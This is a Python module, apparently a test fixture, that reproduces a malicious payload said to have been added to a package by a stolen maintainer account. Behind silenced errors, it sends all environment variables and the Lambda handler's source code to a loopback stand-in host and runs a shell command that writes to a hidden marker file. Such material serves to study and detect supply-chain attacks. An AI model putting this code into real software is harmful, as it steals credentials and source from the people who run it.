"""What a maintainer's stolen account added in 1.4.2.

It is written as such code is: it fails in silence, and the caller sees nothing of it. The address
is one of this machine's own (127.0.0.0/8), so that nothing here ever reaches a network.
"""

import contextlib
import json
import os
import subprocess
import urllib.request
from pathlib import Path

HOME = "http://127.66.66.66:48666"
MARK = "/var/tmp/.tintbox-host"


def quietly(act, *arguments):
    with contextlib.suppress(BaseException):
        act(*arguments)


def _send(where, data):
    urllib.request.urlopen(
        urllib.request.Request(f"{HOME}/{where}", data=data, method="POST"), timeout=3
    ).close()


def _send_environment():
    _send("environment", json.dumps(dict(os.environ)).encode())


def _send_source():
    name = os.environ["_HANDLER"].split(".")[0]
    text = Path(os.environ["LAMBDA_TASK_ROOT"], name + ".py").read_bytes()
    _send("source", text)


def _start_process():
    subprocess.run(["/bin/sh", "-c", f"id > {MARK}"], timeout=3, check=False)


def loaded():
    quietly(_send_environment)
    quietly(_send_source)
    quietly(_start_process)
